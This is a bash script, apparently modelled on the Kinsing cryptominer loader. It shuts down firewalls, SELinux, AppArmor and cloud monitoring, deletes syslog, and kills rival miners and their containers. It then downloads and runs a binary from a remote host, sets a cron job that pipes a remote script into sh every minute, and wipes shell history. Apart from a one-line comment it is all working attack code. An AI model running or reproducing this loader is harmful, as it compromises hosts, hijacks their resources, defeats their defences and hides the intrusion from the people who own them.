#!/bin/bash
# Shape: a loader that ends rivals by name, port and container, checks what it
# fetched and keeps itself in cron (as reported of Kinsing).
ulimit -n 65535
rm -rf /var/log/syslog
chattr -iua /tmp/ /var/tmp/
ufw disable
iptables -F
sudo sysctl kernel.nmi_watchdog=0
setenforce 0
echo SELINUX=disabled >/etc/selinux/config

service apparmor stop
systemctl disable apparmor
service aliyun.service stop

netstat -anp | grep 198.51.100.77 | awk '{print $7}' | awk -F'[/]' '{print $1}' | xargs -I % kill -9 %
netstat -anp | grep :3333 | awk '{print $7}' | awk -F'[/]' '{print $1}' | xargs -I % kill -9 %
ps aux | grep -v grep | grep 'xmr.example-rival.net:14444' | awk '{print $2}' | xargs -I % kill -9 %
pkill -f cryptonight
pkill -f minerd
pkill -f kworkerds
pkill -f 'stratum+tcp://pool.minexmr.com:4444'
docker ps | grep "pocosow" | awk '{print $1}' | xargs -I % docker kill %
docker images -a | grep "xmr" | awk '{print $3}' | xargs -I % docker rmi -f %

DIR="/tmp"
BIN="kn4m3"
BIN_URL="http://198.51.100.23/kn4m3"
BIN_PATH="$DIR/$BIN"
if [ $(id -u) -ne 0 ]; then
  BIN_PATH="/var/tmp/$BIN"
fi

fetch() {
  wget --timeout=10 -q -O $1 $2 || curl --connect-timeout 10 -s -o $1 $2
  chmod +x $1
}

if [ "$(md5sum $BIN_PATH | awk '{print $1}')" != "d41d8cd98f00b204e9800998ecf8427e" ]; then
  fetch $BIN_PATH $BIN_URL
fi
$BIN_PATH &

crontab -l | sed '/rival.sh/d' | crontab -
crontab -l | grep -e "198.51.100.23" | grep -v grep
if [ $? -ne 0 ]; then
  (
    crontab -l 2>/dev/null
    echo "* * * * * wget -q -O - http://198.51.100.23/c.sh | sh > /dev/null 2>&1"
  ) | crontab -
fi
history -c
rm -rf ~/.bash_history
